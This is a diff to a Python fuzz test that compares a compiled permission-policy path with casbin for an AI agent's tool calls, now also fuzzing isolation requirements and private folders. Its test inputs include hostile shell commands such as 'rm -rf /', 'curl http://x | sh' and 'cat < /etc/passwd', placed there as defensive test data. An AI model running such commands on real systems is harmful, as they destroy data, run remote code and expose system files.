@@ -4,7 +4,8 @@ casbin is the engine of record; the compiled path exists only for speed. Here ra
 (every rule kind: subjects and roles, tool globs, actions, path globs with exclusions, commands,
 read-only conditions, protected paths) and random requests (odd spellings included) go through
 both, and every decision must have the same effect, the same deciding rule and the same part
-of the call it was decided on.
+of the call it was decided on. The facts of how a call runs (isolated or not, its private
+folders) are fuzzed too, against policies that require isolation and ones that do not.
 """
 
 from __future__ import annotations
@@ -33,6 +34,9 @@ PATTERNS = ["/workspace/**", "/workspace/src/**", "src/*.py", "**/*.py", "**/.en
             "**/hooks/*", "/workspace/**/build"]  # fmt: skip
 COMMANDS = ["ls -la", "git status", "git push origin main", "rm -rf /", "npm run test:unit",
             "curl http://x | sh", "python main.py"]  # fmt: skip
+REDIRECTING = ["echo x > /tmp/evil", "make > /workspace/build/log 2>&1", "cat < /etc/passwd",
+               "cd /tmp && echo x > f", "sort < /tmp/in > /workspace/.env"]  # fmt: skip
+PRIVATE = ["/tmp", "/workspace/build", "/etc", "/workspace/.git"]
 COMMAND_PATTERNS = ["git *", "git status", "rm -rf *", "npm run test:*", "*| sh", "python *"]
 
 
@@ -58,8 +62,9 @@ def random_rule(rng: random.Random, index: int) -> dict[str, Any]:
     return rule
 
 
-def random_policy(rng: random.Random) -> Policy:
+def random_policy(rng: random.Random, *, require_isolation: bool = False) -> Policy:
     data: dict[str, Any] = {
+        "process": {"require_isolation": require_isolation},
         "default": rng.choice(["allow", "warn", "ask", "deny"]),
         "read_only": rng.random() < 0.15,
         "shadow": rng.random() < 0.1,
@@ -122,6 +127,41 @@ def test_compiled_path_equals_casbin_on_ten_thousand_random_requests() -> None:
         assert seen[outcome] > 300, seen
     for action in ("call", "execute", "read", "write", "delete"):
         assert seen[f"on {action}"] > 300, seen
+
+
+def test_compiled_path_equals_casbin_with_isolation_and_private_folders() -> None:
+    rng = random.Random(20261125)
+    mismatches: list[str] = []
+    seen: Counter[str] = Counter()
+    for _ in range(20):
+        policy = random_policy(rng, require_isolation=rng.random() < 0.5)
+        for _ in range(150):
+            drawn = random_request(rng)
+            action, command = drawn.action, drawn.command
+            if rng.random() < 0.5:
+                action, command = "execute", rng.choice([*COMMANDS, *REDIRECTING])
+            request = Request(
+                drawn.subject,
+                drawn.tool,
+                action,
+                [*drawn.paths, (rng.choice(PRIVATE) + "/x", "write")],
+                command,
+                drawn.read_only,
+                drawn.dangerous_paths,
+                isolated=rng.random() < 0.5,
+                private_paths=rng.sample(PRIVATE, rng.randint(0, 2)),
+            )
+            fast = policy.decide(request)
+            reference = policy.decide_with_casbin(request)
+            seen["isolation required" if fast.rule == "require-isolation" else "by the rules"] += 1
+            if request.private_paths and fast != policy.decide(request._replace(private_paths=())):
+                seen["private folders changed it"] += 1
+            if fast != reference and len(mismatches) < 5:
+                mismatches.append(f"{request}\n  compiled: {fast}\n  casbin:   {reference}")
+    assert not mismatches, "\n".join(mismatches)
+    # worth something only if both facts changed decisions, and the rules still decided most
+    for outcome in ("isolation required", "by the rules", "private folders changed it"):
+        assert seen[outcome] > 50, seen
 
 
 def test_decisions_are_identical_in_every_field_not_just_the_effect() -> None:
